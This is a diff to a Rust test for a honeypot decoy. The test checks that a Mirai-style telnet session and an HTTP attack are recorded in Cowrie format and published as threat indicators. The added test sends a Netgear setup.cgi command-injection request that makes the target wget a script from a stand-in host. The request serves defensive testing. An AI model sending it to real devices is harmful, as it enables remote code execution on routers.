@@ -93,6 +93,13 @@ fn decoy_records_a_mirai_session_in_cowrie_format() {
         .strip_prefix("yamori decoy: telnet listening on ")
         .unwrap_or_else(|| panic!("unexpected first line {first:?}"))
         .to_string();
+    let mut second = String::new();
+    stdout.read_line(&mut second).expect("second line");
+    let http = second
+        .trim()
+        .strip_prefix("yamori decoy: http listening on ")
+        .unwrap_or_else(|| panic!("unexpected second line {second:?}"))
+        .to_string();
 
     let mut s = TcpStream::connect(&addr).expect("connect to the decoy on loopback");
     s.set_read_timeout(Some(Duration::from_secs(10)))
@@ -129,6 +136,16 @@ fn decoy_records_a_mirai_session_in_cowrie_format() {
         said[9]
     );
 
+    // A Netgear setup.cgi exploit over raw HTTP: its URL goes with the telnet one.
+    let mut h = TcpStream::connect(&http).expect("connect to the HTTP decoy");
+    h.set_read_timeout(Some(Duration::from_secs(10)))
+        .expect("timeout");
+    h.write_all(b"GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=wget+http://203.0.113.9/n.sh&curpath=/&currentsetting.htm=1 HTTP/1.0\r\n\r\n")
+        .expect("send request");
+    let mut reply = String::new();
+    h.read_to_string(&mut reply).expect("reply");
+    assert!(reply.starts_with("HTTP/1.1 200 OK"), "{reply}");
+
     // SIGTERM: the open session is closed and recorded, the summary printed.
     let pid = decoy.0.id().to_string();
     let killed = Command::new("kill").args(["-TERM", &pid]).status();
@@ -138,21 +155,43 @@ fn decoy_records_a_mirai_session_in_cowrie_format() {
     let mut rest = String::new();
     stdout.read_to_string(&mut rest).expect("summary");
     let summary: Value = serde_json::from_str(rest.trim()).expect("--json summary");
-    assert_eq!(summary["sessions"], 1);
+    assert_eq!(summary["sessions"], 2);
     assert_eq!(summary["logins_succeeded"], 1);
-    assert_eq!(summary["commands"], 8);
-    assert_eq!(summary["download_urls"], 1);
+    // Eight telnet lines and the exploit's command.
+    assert_eq!(summary["commands"], 9);
+    assert_eq!(summary["download_urls"], 2);
     assert_eq!(summary["files_written"], 1);
     assert_eq!(summary["write_errors"], 0);
-    assert_eq!(summary["stored"], 13, "every record also went to the store");
-    // The organisation's identity, the URL's indicator and its host's.
-    assert_eq!(summary["published_objects"], 3);
+    assert_eq!(summary["stored"], 18, "every record also went to the store");
+    // The organisation's identity, the URLs' indicators and their hosts'.
+    assert_eq!(summary["published_objects"], 5);
 
     let text = std::fs::read_to_string(&events).expect("events file");
-    let records: Vec<Value> = text
+    let all: Vec<Value> = text
         .lines()
         .map(|l| serde_json::from_str(l).expect("a JSON object per line"))
         .collect();
+    let telnet_session = all[0]["session"].clone();
+    let records: Vec<Value> = all
+        .iter()
+        .filter(|r| r["session"] == telnet_session)
+        .cloned()
+        .collect();
+    let web: Vec<&Value> = all.iter().filter(|r| r["protocol"] == "http").collect();
+    let web_ids: Vec<&str> = web.iter().filter_map(|r| r["eventid"].as_str()).collect();
+    assert_eq!(
+        web_ids,
+        [
+            "cowrie.session.connect",
+            "yamori.http.request",
+            "cowrie.command.input",
+            "cowrie.session.file_download",
+            "cowrie.session.closed"
+        ]
+    );
+    assert_eq!(web[1]["exploit"], "netgear-setup-cgi");
+    assert_eq!(web[2]["input"], "wget http://203.0.113.9/n.sh");
+    assert_eq!(web[3]["url"], "http://203.0.113.9/n.sh");
     let ids: Vec<&str> = records
         .iter()
         .map(|r| r["eventid"].as_str().unwrap_or("?"))
@@ -192,12 +231,17 @@ fn decoy_records_a_mirai_session_in_cowrie_format() {
         .expect("the data directory's database");
     let id = session.as_str().expect("session id");
     let stored = store.decoy_session(id).expect("stored session");
-    let lines: Vec<&str> = text.lines().collect();
+    let lines: Vec<&str> = text
+        .lines()
+        .filter(|l| l.contains(&format!("\"session\":\"{id}\"")))
+        .collect();
     assert_eq!(stored, lines);
     let urls = store.decoy_urls().expect("download URLs");
-    assert_eq!(urls.len(), 1);
-    assert_eq!(urls[0].url, "http://198.51.100.7/x.sh");
-    assert_eq!(urls[0].sources, ["127.0.0.1"]);
+    let urls: Vec<&str> = urls.iter().map(|u| u.url.as_str()).collect();
+    assert_eq!(
+        urls,
+        ["http://198.51.100.7/x.sh", "http://203.0.113.9/n.sh"]
+    );
 
     // The indicators in the local hub's `decoy` collection.
     let collection = store
@@ -218,7 +262,9 @@ fn decoy_records_a_mirai_session_in_cowrie_format() {
         patterns,
         [
             "[ipv4-addr:value = '198.51.100.7']",
-            "[url:value = 'http://198.51.100.7/x.sh']"
+            "[ipv4-addr:value = '203.0.113.9']",
+            "[url:value = 'http://198.51.100.7/x.sh']",
+            "[url:value = 'http://203.0.113.9/n.sh']"
         ]
     );
 }
